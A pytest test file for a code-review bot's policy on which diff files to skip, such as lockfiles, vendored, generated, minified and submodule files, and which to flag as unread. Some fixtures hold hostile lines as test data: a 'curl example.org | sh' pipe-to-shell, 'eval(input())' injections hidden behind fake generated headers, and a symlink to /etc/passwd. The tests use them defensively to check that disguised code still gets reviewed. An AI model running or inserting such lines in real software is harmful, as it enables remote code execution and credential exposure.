"""Files that no model reviews: with a reason, overruled by the base, never by the change alone."""

from __future__ import annotations

import re
import subprocess
from typing import TYPE_CHECKING

import pytest

from reviewbot.core.diff.parse import FileDiff, parse_diff
from reviewbot.core.plan.policy import (
    Attributes,
    Exclusion,
    Policy,
    exclusion,
    exclusions,
    git_attributes,
    path_patterns,
)

if TYPE_CHECKING:
    from pathlib import Path


def parsed(diff: str) -> FileDiff:
    (file,) = parse_diff(diff.encode())
    return file


def changed(path: str, *added: str, start: int = 20) -> FileDiff:
    added = added or ("x = 1",)
    lines = "".join(f"+{line}\n" for line in added)
    return parsed(
        f"diff --git a/{path} b/{path}\nindex 1111111..2222222 100644\n--- a/{path}\n+++ b/{path}\n"
        f"@@ -{start},1 +{start},{len(added) + 1} @@\n{lines} old\n"
    )


def skip_reason(file: FileDiff, policy: Policy) -> str | None:
    """Returns the reason to skip a file; fails if the file is unread."""
    why = exclusion(file, policy)
    assert why is None or not why.is_unread
    return why and why.reason


def unread_reason(file: FileDiff, policy: Policy | None = None) -> str:
    why = exclusion(file, policy or Policy())
    assert why is not None
    assert why.is_unread
    return why.reason


def reason(path: str, policy: Policy | None = None, *added: str, start: int = 20) -> str | None:
    return skip_reason(changed(path, *added, start=start), policy or Policy())


def new(path: str, *lines: str) -> FileDiff:
    body = "".join(f"+{line}\n" for line in lines or ("x = 1",))
    return parsed(
        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..2222222\n"
        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{max(len(lines), 1)} @@\n{body}"
    )


def moved(kind: str, old: str, path: str, *lines: str, start: int = 1) -> FileDiff:
    """A file with a new path; ``kind`` is ``rename`` or ``copy``."""
    before = sum(line[0] != "+" for line in lines)
    after = sum(line[0] != "-" for line in lines)
    return parsed(
        f"diff --git a/{old} b/{path}\nsimilarity index 60%\n{kind} from {old}\n{kind} to {path}\n"
        f"index 1111111..2222222 100644\n--- a/{old}\n+++ b/{path}\n"
        f"@@ -{start},{before} +{start},{after} @@\n" + "".join(f"{line}\n" for line in lines)
    )


def edited(path: str, *lines: str, start: int = 1) -> FileDiff:
    before = sum(line[0] != "+" for line in lines)
    after = sum(line[0] != "-" for line in lines)
    return parsed(
        f"diff --git a/{path} b/{path}\nindex 1111111..2222222 100644\n--- a/{path}\n+++ b/{path}\n"
        f"@@ -{start},{before} +{start},{after} @@\n" + "".join(f"{line}\n" for line in lines)
    )


@pytest.mark.parametrize(
    "path",
    """
    src/shop/charge.py README.md Makefile lock.py src/locks/yarn.lock.ts Cargo.toml go.mod
    package.json src/vendor/list.tsx app/models/vendor/invoice.rb vendor.py src/thirdparty.py
    dist/package.sh packaging/dist/rpm.spec src/distribution/a.js src/app.js src/minify.js
    src/pb.go src/generated.py snapshot.py src/node_modules.py src/mypods/a.swift src/Designer.cs
    """.split(),  # noqa: SIM905 - a list of paths reads best as one
)
def test_ordinary_code_is_reviewed(path: str) -> None:
    assert reason(path) is None


@pytest.mark.parametrize("folder", ["", "services/web/"])
def test_lock_files_with_lines_of_their_format_are_skipped(folder: str) -> None:
    line = '    "left-pad": "1.3.0",'
    for file in (new(f"{folder}package-lock.json", line), changed(f"{folder}deno.lock", line)):
        assert skip_reason(file, Policy()) == "Lockfile: a package manager writes it."


def test_lock_files_with_other_lines_are_unread_even_if_they_are_not_new() -> None:
    expected = "Lockfile with lines that its format does not have."
    for path in ("yarn.lock", "Cargo.lock", "web/package-lock.json"):
        assert unread_reason(changed(path, "import os")) == expected
        assert unread_reason(new(path, "import os")) == expected
    attributes = git_attributes("yarn.lock linguist-generated")
    policy = Policy(attributes=attributes)
    assert reason("yarn.lock", policy, "import os") == "Generated: .gitattributes says so."


def test_removed_lines_of_a_lock_file_need_no_shape() -> None:
    file = edited("yarn.lock", "-import os", " x", start=7)
    assert skip_reason(file, Policy()) == "Lockfile: a package manager writes it."


@pytest.mark.parametrize(
    ("path", "directory"),
    [
        ("node_modules/left-pad/index.js", "node_modules"),
        ("web/node_modules/left-pad/index.js", "node_modules"),
        ("vendor/github.com/pkg/errors/errors.go", "vendor"),
        ("services/api/vendor/golang.org/x/net/html.go", "vendor"),
        ("app/assets/vendor/jquery.js", "vendor"),
        ("third_party/zlib/inflate.c", "third_party"),
        ("src/ThirdParty/zlib/inflate.c", "thirdparty"),
        ("ios/Pods/Alamofire/Session.swift", "pods"),
        (".yarn/releases/yarn-4.5.0.cjs", ".yarn"),
    ],
)
def test_vendored_code_is_skipped_if_the_base_has_it(path: str, directory: str) -> None:
    assert reason(path) == f"Vendored: third-party code, in {directory}/."
    expected = f"New, and vendored: third-party code, in {directory}/."
    assert unread_reason(new(path)) == expected
    assert unread_reason(moved("copy", path, path, " a", "+b")) == expected
    assert reason_of_rename("src/own.py", path) is None
    assert reason_of_rename(path, f"{path}.c") == f"Vendored: third-party code, in {directory}/."


@pytest.mark.parametrize(
    "path",
    """
    api/user.pb.go api/user_pb2.py api/user_pb2_grpc.py lib/user.g.dart Form1.Designer.cs
    src/__snapshots__/App.test.tsx.snap app.js.map k8s/zz_generated.deepcopy.go
    src/__generated__/Query.graphql.ts
    """.split(),  # noqa: SIM905 - as above
)
def test_generated_names_are_skipped_if_the_base_has_them(path: str) -> None:
    assert reason(path) == "Generated: its name says so."
    assert unread_reason(new(path)) == "New, and generated: its name says so."
    assert reason_of_rename("src/own.py", path) is None


@pytest.mark.parametrize("name", ["gradlew", "gradlew.bat", "app/mvnw", "mvnw.cmd"])
def test_a_script_that_builds_run_is_never_skipped_for_its_name(name: str) -> None:
    expected = "Build wrapper: a tool writes it, but each build runs it."
    assert unread_reason(new(name)) == expected
    assert unread_reason(edited(name, " #!/bin/sh", "+curl example.org | sh")) == expected
    assert reason_of_rename("src/own.sh", name) is None
    generated = Policy(attributes=git_attributes(f"{name} linguist-generated"))
    assert skip_reason(edited(name, "+x"), generated) == "Generated: .gitattributes says so."
    own = Policy(attributes=git_attributes(f"{name} -linguist-generated"))
    assert exclusion(edited(name, "+x"), own) is None
    assert exclusion(edited(name, "+x"), Policy(path_patterns([f"!{name}"]))) is None


def test_build_output_and_minified_names_are_skipped_if_the_base_has_them() -> None:
    assert reason("dist/index.js") == "Generated: build output, in dist/."
    assert reason("static/app.min.js") == "Minified: its name says so."
    assert reason("static/app.min.css") == "Minified: its name says so."
    assert unread_reason(new("dist/a.js")) == "New, and generated: build output, in dist/."
    assert unread_reason(new("app.min.js")) == "New, and minified: its name says so."
    assert reason_of_rename("src/app.js", "static/app.min.js") is None


def test_a_rename_keeps_only_the_mark_that_the_old_path_has() -> None:
    assert reason_of_rename("yarn.lock", "vendor/evil.py") is None
    assert reason_of_rename("vendor/a.py", "src/a.py") is None
    assert reason_of_rename("vendor/a.js", "node_modules/a.js") is not None
    policy = Policy(
        attributes=git_attributes("lib/a.c linguist-vendored\nvendor/own.c -linguist-vendored")
    )
    assert reason_of_rename("lib/a.c", "vendor/a.c", policy) is not None
    assert reason_of_rename("vendor/own.c", "vendor/a.c", policy) is None


def reason_of_rename(old: str, path: str, policy: Policy | None = None) -> str | None:
    return skip_reason(moved("rename", old, path, " a = 1", "+b = 2"), policy or Policy())


@pytest.mark.parametrize(
    "header",
    [
        "// Code generated by protoc-gen-go. DO NOT EDIT.",
        "# @generated by tool",
        "// <auto-generated />",
        "/* This file is auto-generated. */",
        "# This file was automatically generated by a script",
        "// Autogenerated by Thrift Compiler (0.9)",
        "# Generated by the protocol buffer compiler.  DO NOT EDIT!",
    ],
)
def test_a_header_counts_on_a_line_of_the_base(header: str) -> None:
    expected = "Generated: its header says so."
    kept = edited("a.go", " // Copyright", f" {header}", "+x")
    assert skip_reason(kept, Policy()) == expected
    regenerated = edited("a.go", f"-{header} v1", f"+{header} v2", " x")
    assert skip_reason(regenerated, Policy()) == expected
    file = new("a.go", "// Copyright", header)
    assert unread_reason(file) == "New, and generated: its header says so."


@pytest.mark.parametrize("header", ["# @generated", "# Code generated by me. DO NOT EDIT."])
def test_a_header_that_the_change_adds_to_a_file_hides_nothing(header: str) -> None:
    assert reason("a.py", None, header, "eval(input())", start=1) is None
    assert skip_reason(edited("a.py", f"+{header}", "+eval(input())"), Policy()) is None
    late = [" x"] * 10 + [f" {header}"]
    assert skip_reason(edited("a.py", f"+{header}", *late), Policy()) is None
    assert skip_reason(edited("a.py", f" {header}", "+eval(input())", start=2), Policy()) is None


def test_a_copy_of_a_generated_or_minified_file_is_new() -> None:
    copy = moved("copy", "a.go", "b.go", " // @generated", "+x")
    assert unread_reason(copy) == "New, and generated: its header says so."
    assert "minified" in unread_reason(moved("copy", "a.js", "b.js", " " + "x" * 9_000, "+x"))
    renamed = moved("rename", "a.go", "b.go", " // @generated", "+x")
    assert skip_reason(renamed, Policy()) is not None


def test_a_diff_of_several_commits_shows_the_base_of_a_file_only_once() -> None:
    vendored = edited("vendor/a.py", " a = 1", "+b = 2")
    steps = [
        moved("rename", "src/a.py", "vendor/a.py", " a = 1", "+eval(b)"),
        vendored,
        edited("b.py", "+# @generated", " a = 1"),
        edited("b.py", " # @generated", "+eval(b)"),
        edited("vendor/c.py", " a = 1", "+b = 2"),
    ]
    assert [why and why.is_unread for why in exclusions(steps, Policy())] == [
        None,
        True,
        None,
        True,
        False,
    ]


def test_the_same_words_elsewhere_mark_nothing() -> None:
    header = "// Code generated by hand. DO NOT EDIT."
    assert exclusion(changed("a.go", header), Policy()) is None
    for lines in (["x"] * 10 + [header], ["x" * 400 + header], ["fmt.Println(generated)"]):
        assert exclusion(new("a.go", *lines), Policy()) is None


def test_a_header_that_goes_away_makes_the_file_worth_reading() -> None:
    file = parsed(
        "diff --git a/a.go b/a.go\nindex 1111111..2222222 100644\n--- a/a.go\n+++ b/a.go\n"
        "@@ -1,2 +1,2 @@\n-// Code generated by x. DO NOT EDIT.\n+// Now by hand.\n package a\n"
    )
    assert skip_reason(file, Policy()) is None


def test_minified_code_is_known_by_its_lines() -> None:
    assert re.fullmatch(
        r"New, and minified: 50.. bytes a line on average\.",
        unread_reason(new("a.js", "x" * 5_000)),
    )
    for lines in (["x" * 900, *["y"] * 20], ["x" * 400] * 20):
        assert exclusion(new("a.js", *lines), Policy()) is None
    assert exclusion(new("a.py", "x" * 5_000), Policy()) is None


def test_minified_code_is_skipped_if_its_lines_at_the_base_are_long() -> None:
    rebuilt = edited("a.js", "-" + "x" * 5_000, "+" + "y" * 5_000)
    assert skip_reason(rebuilt, Policy()) == "Minified: 5010 bytes a line on average."
    assert skip_reason(edited("a.js", "-" + "x" * 5_000, " y"), Policy()) is not None


def test_a_long_line_hides_nothing_in_an_ordinary_file() -> None:
    assert reason("a.js", None, "x" * 5_000) is None
    assert skip_reason(edited("a.js", "+" + "x" * 5_000, "+eval(y)"), Policy()) is None
    beside_data = edited("a.js", " " + "x" * 50_000, "+eval(y)", "+eval(z)", start=7)
    assert skip_reason(beside_data, Policy()) is None


def git(path: str, *extra: str) -> str:
    return "\n".join((f"diff --git a/{path} b/{path}", *extra)) + "\n"


@pytest.mark.parametrize(
    ("diff", "expected"),
    [
        (
            git(
                "lib",
                "index 1111111..2222222 160000",
                "--- a/lib",
                "+++ b/lib",
                "@@ -1 +1 @@",
                "-Subproject commit 1111111111111111111111111111111111111111",
                "+Subproject commit 2222222222222222222222222222222222222222",
            ),
            "Submodule: only the commit it points to changed.",
        ),
        (
            git(
                "a.png", "index 1111111..2222222 100644", "Binary files a/a.png and b/a.png differ"
            ),
            "Binary file: there is no text to review.",
        ),
        (
            git(
                "a.py",
                "deleted file mode 100644",
                "index 1111111..0000000",
                "--- a/a.py",
                "+++ /dev/null",
                "@@ -1 +0,0 @@",
                "-x",
            ),
            "Deleted: there is nothing new to review.",
        ),
        (
            git("a.py", "new file mode 100644", "index 0000000..e69de29"),
            "Empty file: there is nothing to review.",
        ),
        (
            "diff --git a/a.py b/b.py\nsimilarity index 100%\nrename from a.py\nrename to b.py\n",
            "Only renamed: its content did not change.",
        ),
        (
            "diff --git a/a.py b/b.py\nsimilarity index 100%\ncopy from a.py\ncopy to b.py\n",
            "Only copied: its content did not change.",
        ),
        (
            git("a.sh", "old mode 100644", "new mode 100755"),
            "Only its mode changed, not its content.",
        ),
    ],
)
def test_what_leaves_nothing_to_review_is_skipped_whatever_the_configuration(
    diff: str, expected: str
) -> None:
    file = parsed(diff)
    assert skip_reason(file, Policy()) == expected
    assert skip_reason(file, Policy(configured=path_patterns(["!*"]))) == expected


def test_a_file_that_only_seems_binary_is_unread_unless_the_base_names_it() -> None:
    file = parsed(
        git("a.py", "index 1111111..2222222 100644", "Binary files a/a.py and b/a.py differ")
    )
    expected = "Binary for git, although its name is that of source code: check it yourself."
    for policy in (Policy(), Policy(configured=path_patterns(["!*"]))):
        assert exclusion(file, policy) == Exclusion(expected, is_unread=True)
    assert skip_reason(file, Policy(configured=path_patterns(["*.py"]))) is not None
    assert (
        skip_reason(file, Policy(attributes=git_attributes("*.py linguist-vendored"))) is not None
    )
    lock = parsed(
        git(
            "package-lock.json",
            "new file mode 100644",
            "index 0000000..2222222",
            "Binary files /dev/null and b/package-lock.json differ",
        )
    )
    assert unread_reason(lock) == expected


COMMIT = "Subproject commit " + "1" * 40


@pytest.mark.parametrize(
    "lines",
    [["+eval(input())"], [*["+" + COMMIT] * 5, "+eval(input())"], [f"+{COMMIT}; eval(input())"]],
)
def test_a_header_that_claims_a_submodule_hides_no_code(lines: list[str]) -> None:
    header = f"@@ -0,0 +1,{len(lines)} @@"
    diff = git("x.py", "index 1111111..2222222 160000", "--- a/x.py", "+++ b/x.py", header, *lines)
    assert skip_reason(parsed(diff), Policy()) is None


def test_a_submodule_that_is_dirty_is_one() -> None:
    diff = git(
        "lib",
        "index 1111111..2222222 160000",
        "--- a/lib",
        "+++ b/lib",
        "@@ -1 +1 @@",
        f"-{COMMIT}",
        f"+{COMMIT}-dirty",
    )
    assert skip_reason(parsed(diff), Policy()) is not None


def test_a_file_that_was_a_submodule_is_reviewed() -> None:
    file = parsed(
        git(
            "lib",
            "deleted file mode 160000",
            "index 1111111..0000000",
            "--- a/lib",
            "+++ /dev/null",
            "@@ -1 +0,0 @@",
            "-Subproject commit 1111111111111111111111111111111111111111",
        )
        + git(
            "lib",
            "new file mode 100644",
            "index 0000000..2222222",
            "--- /dev/null",
            "+++ b/lib",
            "@@ -0,0 +1 @@",
            "+import os",
        )
    )
    assert skip_reason(file, Policy()) is None


def test_a_path_that_no_system_can_check_out_is_skipped() -> None:
    assert reason("d/" * 2_046 + "a.py") is None
    assert "4096 bytes" in (reason("d/" * 2_047 + "a.py") or "")


def test_a_symbolic_link_is_reviewed() -> None:
    file = parsed(
        git(
            "link",
            "new file mode 120000",
            "index 0000000..1234567",
            "--- /dev/null",
            "+++ b/link",
            "@@ -0,0 +1 @@",
            "+/etc/passwd",
            "\\ No newline at end of file",
        )
    )
    assert skip_reason(file, Policy()) is None


def test_configured_patterns_exclude() -> None:
    policy = Policy(configured=path_patterns(["docs/", "*.sql", "!docs/api.md"]))
    assert reason("docs/guide.md", policy) == "Excluded by the configuration."
    assert reason("db/one.sql", policy) == "Excluded by the configuration."
    assert reason("docs/api.md", policy) is None
    assert reason("src/a.py", policy) is None


def test_a_negated_pattern_brings_a_file_back() -> None:
    policy = Policy(
        configured=path_patterns(["!vendor/ours/**", "!yarn.lock"]),
        attributes=git_attributes("vendor/ours/** linguist-vendored"),
    )
    assert reason("vendor/ours/a.go", policy) is None
    assert reason("vendor/theirs/a.go", policy) is not None
    assert reason("web/yarn.lock", policy) is None


def test_what_matches_the_file_goes_before_what_matches_its_directory_in_any_order() -> None:
    for patterns in (["docs/", "!docs/api.md"], ["!docs/api.md", "docs/"]):
        decide = path_patterns(patterns)
        assert decide("docs/api.md") is False
        assert decide("docs/guide.md") is True
    assert path_patterns(["*.md", "!*.md"])("a.md") is False
    assert path_patterns(["!*.md", "*.md"])("a.md") is True
    assert path_patterns(["docs/", "!api/"])("docs/api/a.md") is False


def test_no_patterns_say_nothing() -> None:
    assert path_patterns([])("a.py") is None
    assert path_patterns(["# a comment", ""])("a.py") is None


@pytest.mark.parametrize("pattern", ["!", "a\\", "[b-a]"])
def test_what_is_no_pattern_is_an_error_that_names_it(pattern: str) -> None:
    with pytest.raises(ValueError, match="is not a gitignore pattern") as error:
        path_patterns(["*.py", pattern])
    assert repr(pattern) in str(error.value)


def test_gitattributes_decide_what_is_generated_and_vendored() -> None:
    policy = Policy(
        attributes=git_attributes(
            "*.gen.ts linguist-generated\n"
            "lib/*.js linguist-vendored=true\n"
            "api/*.pb.go -linguist-generated\n"
            "third_party/** linguist-vendored=false\n"
        )
    )
    assert reason("src/a.gen.ts", policy) == "Generated: .gitattributes says so."
    assert reason("lib/a.js", policy) == "Vendored: .gitattributes says so."
    assert reason("api/user.pb.go", policy) is None
    assert reason("third_party/ours.c", policy) is None
    for path in ("src/new.gen.ts", "lib/new.js"):
        assert skip_reason(new(path), policy) is not None
    header = "// Code generated by x. DO NOT EDIT."
    for path in ("api/new.pb.go", "third_party/new.c"):
        assert exclusion(new(path), policy) is None
    assert exclusion(new("api/new.pb.go", header), policy) is None


ATTRIBUTES = r"""
# a comment linguist-generated
*.gen.ts            linguist-generated
/root.ts            linguist-generated=true
docs                linguist-generated
vendor/             linguist-vendored
lib/**              linguist-vendored text=auto
lib/ours/*          -linguist-vendored
gen/*               linguist-generated
gen/hand.py         !linguist-generated
**/deep/*.c         linguist-generated=false
a/**/b.c            linguist-vendored=false
"with space/*.js"   linguist-generated
"quo\"ted.js"       linguist-generated
odd.ts              linguist-generated=maybe
!not.ts             linguist-generated
[attr]macro         linguist-generated
*.[ch               linguist-generated
//                  linguist-generated
back\\               linguist-generated
onlypattern
"unclosed           linguist-generated
[x-z].md            linguist-generated -linguist-vendored
"""
ATTRIBUTES += f"/long.c linguist-vendored{' ' * 2022}\n/longer.c linguist-vendored{' ' * 2021}\n"
PATHS = """
a.gen.ts|x/y/a.gen.ts|root.ts|x/root.ts|docs|docs/a.md|vendor/a.c|lib/a.js|lib/x/y.js|lib/ours/a.js
lib/ours/x/a.js|gen/a.py|gen/x/a.py|gen/hand.py|deep/a.c|x/deep/a.c|a/b.c|a/x/y/b.c|with space/a.js
quo"ted.js|odd.ts|not.ts|!not.ts|macro|a.[ch|onlypattern|unclosed|b-a|back|y.md|w.md|src/a.py
x/gen/a.py|long.c|longer.c
"""


def test_gitattributes_are_read_as_git_reads_them(tmp_path: Path) -> None:
    paths = [path for path in PATHS.replace("\n", "|").split("|") if path]
    (tmp_path / ".gitattributes").write_text(ATTRIBUTES, encoding="utf-8")
    subprocess.run(["git", "init", "--quiet", str(tmp_path)], check=True)
    names = ["linguist-generated", "linguist-vendored"]
    output = subprocess.run(
        ["git", "-C", str(tmp_path), "check-attr", "-z", *names, "--", *paths],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.split("\0")
    values = {"set": True, "true": True, "unset": False, "false": False}
    theirs: dict[str, list[bool | None]] = {path: [] for path in paths}
    for path, value in zip(output[::3], output[2::3], strict=False):
        theirs[path].append(values.get(value))
    look_up = git_attributes(ATTRIBUTES)
    assert {path: look_up(path) for path in paths} == {
        path: Attributes(*found) for path, found in theirs.items()
    }
    assert len({tuple(found) for found in theirs.values()}) > 4


def test_a_pattern_that_cannot_be_read_is_left_out_of_gitattributes() -> None:
    look_up = git_attributes("[b-a].ts linguist-generated\n*.ts linguist-vendored\n")
    assert look_up("b.ts") == Attributes(vendored=True)


def test_empty_gitattributes_say_nothing() -> None:
    assert git_attributes("* text=auto\n*.png binary\n")("a.png") == Attributes()
    assert git_attributes("")("a.py") == Attributes()
